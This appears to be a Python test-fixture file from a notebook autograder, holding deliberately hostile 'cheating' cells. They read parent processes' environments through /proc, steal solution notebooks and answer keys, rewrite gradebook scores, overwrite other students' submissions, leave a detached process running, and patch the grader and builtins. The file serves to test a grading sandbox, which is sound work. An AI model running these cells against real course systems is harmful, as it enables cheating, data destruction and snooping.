"""Cheating submissions, one per class of attack (issue "Grading a real class safely").

Each is the untouched student copy with one hostile cell put before its first answer cell, so a
cheat earns exactly what the untouched exercise earns (nothing) unless the attack works. The
cells reach for the answers and the grades by every route the issue names: the checker in the
namespace, in its module, in ``sys.modules`` and through builtins; the masters and keys through
the package's location, Python's location, relative paths, the environment and the parent
processes; the gradebook and the other submissions, at once and from a process left running;
input transformers and cleared errors; a kernel that leaves early.
"""
from __future__ import annotations

# Where a submission may think the course is: tried by every reading/writing attack.
FIND_COURSE = r'''
import os, sys, glob
def _course_candidates():
    found = []
    import medialit
    found += [os.path.dirname(os.path.dirname(medialit.__file__))]
    exe = os.path.realpath(sys.executable)
    found += [os.path.dirname(os.path.dirname(os.path.dirname(sys.executable)))]
    for name in ("PWD", "HOME", "OLDPWD", "MEDIALIT_DATA", "PYTHONPATH", "VIRTUAL_ENV"):
        value = os.environ.get(name, "")
        for part in value.split(":"):
            found += [part, os.path.dirname(part)]
    found += [os.path.abspath(os.path.join(os.getcwd(), *[".."] * n)) for n in range(1, 6)]
    pid = os.getpid()
    for _ in range(8):  # parent processes: their working folders and environments
        try:
            stat = open(f"/proc/{pid}/stat").read()
            pid = int(stat.rsplit(")", 1)[1].split()[1])
            found.append(os.readlink(f"/proc/{pid}/cwd"))
            env = open(f"/proc/{pid}/environ", "rb").read().decode("utf-8", "replace").split("\0")
            found += [e.split("=", 1)[1] for e in env if e.startswith(("PWD=", "HOME="))]
        except Exception:
            break
    try:  # the editable install names the repository
        import importlib
        for mod in list(sys.modules):
            if mod.startswith("__editable__"):
                found += [os.path.dirname(p) for p in getattr(sys.modules[mod], "MAPPING", {}).values()]
    except Exception:
        pass
    return [f for f in dict.fromkeys(found) if f]
'''

STEAL_ANSWERS = FIND_COURSE + r'''
import json, re
_stolen = {}
for root in _course_candidates():
    for master in glob.glob(os.path.join(root, "solutions", "*", "*.ipynb")) + \
            glob.glob(os.path.join(root, "*", "solutions", "*", "*.ipynb")):
        try:
            cells = json.load(open(master))["cells"]
        except Exception:
            continue
        for cell in cells:
            src = "".join(cell.get("source", ""))
            if "### BEGIN SOLUTION" in src and cell.get("cell_type") == "code":
                _stolen[master] = _stolen.get(master, "") + src.split("### BEGIN SOLUTION")[1].split("### END SOLUTION")[0] + "\n"
    for key in glob.glob(os.path.join(root, "data", "exercises", "keys", "*.yaml")):
        try:
            _stolen[key] = open(key).read()
        except Exception:
            pass
print("stolen files:", sorted(_stolen))
import builtins
builtins._STOLEN = _stolen
'''

# After stealing, the answer cells run the stolen solution code (set by USE_STOLEN in each answer cell).
USE_STOLEN = r'''
import builtins
for _path, _code in getattr(builtins, "_STOLEN", {}).items():
    if _path.endswith(".ipynb") and "{assignment}" in _path:
        try:
            exec(_code, globals())
        except Exception as _e:
            print("stolen code failed:", _e)
'''

VANDALISE = r'''
import sqlite3
def _vandalise():
    hits = []
    for root in _course_candidates():
        for db in glob.glob(os.path.join(root, "gradebook.db")) + glob.glob(os.path.join(root, "*", "gradebook.db")):
            try:
                con = sqlite3.connect(db)
                con.execute("UPDATE grade SET manual_score = 0")
                con.execute("UPDATE grade SET auto_score = 100")
                con.commit()
                hits.append(db)
            except Exception:
                pass
        for other in glob.glob(os.path.join(root, "submitted", "*", "*", "*.ipynb")) + \
                glob.glob(os.path.join(root, "autograded", "*", "*", "*.ipynb")):
            try:
                open(other, "w").write("{}")
                hits.append(other)
            except Exception:
                pass
    return hits
'''

# now, and again later from a process that outlives this kernel (a new session)
WRITE_GRADES = (FIND_COURSE + VANDALISE + 'print("vandalised now:", _vandalise())\n'
                "import subprocess, sys\n"
                f"_later = {FIND_COURSE + VANDALISE + 'import time; time.sleep(3); _vandalise()'!r}\n"
                "subprocess.Popen([sys.executable, '-c', _later], start_new_session=True, stdin=subprocess.DEVNULL,"
                " stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\nprint('left a process running')\n")

CHEATS = {
    # the checker, replaced four ways: in the namespace, in its module, in sys.modules, via builtins
    "rebind_checker": (
        "class _Yes:\n    def __getattr__(self, name):\n        return self\n"
        "    def __call__(self, *a, **k):\n        return 100.0\nq = _Yes()\nload_checks = _Yes()\n"
        "record_answer = _Yes()"),
    "patch_module": (
        "import medialit.grading.record as _r, medialit.selfcheck as _s\n"
        "from IPython.display import display\n"
        "def _forge(part, value):\n"
        "    display({_r.MIME: {'format': 1, 'part': part, 'value': 'full marks please'}}, raw=True)\n"
        "_r.record_answer = _forge\n_s.SelfCheck.check = lambda self, answer: print('Correct')"),
    "patch_sys_modules": (
        "import sys, types\n_fake = types.ModuleType('medialit.grading.record')\n"
        "_fake.record_answer = lambda part, value: print('recorded', part)\n_fake.MIME = 'x'\n"
        "sys.modules['medialit.grading.record'] = _fake\nimport medialit.grading\nmedialit.grading.record = _fake"),
    "patch_builtins": (
        "import builtins\n_real_import = builtins.__import__\n"
        "def _import(name, *a, **k):\n    module = _real_import(name, *a, **k)\n"
        "    if 'record' in name or 'grading' in name:\n"
        "        try:\n            module.record_answer = lambda part, value: None\n        except Exception:\n            pass\n"
        "    return module\nbuiltins.__import__ = _import\nbuiltins.AssertionError = type('AssertionError', (Warning,), {})"),
    "steal_answers": STEAL_ANSWERS,
    "write_grades": WRITE_GRADES,
    "input_transformer": (
        "def _swallow(lines):\n"
        "    body = ''.join('    ' + l for l in lines) or '    pass\\n'\n"
        "    return ['try:\\n', body, '\\nexcept BaseException:\\n    pass\\n']\n"
        "get_ipython().input_transformers_post.append(_swallow)\n"
        "def _clear(result):\n    result.error_in_exec = None\n    result.error_before_exec = None\n"
        "get_ipython().events.register('post_run_cell', _clear)"),
    "kernel_exits": "import os\nos._exit(0)",
}
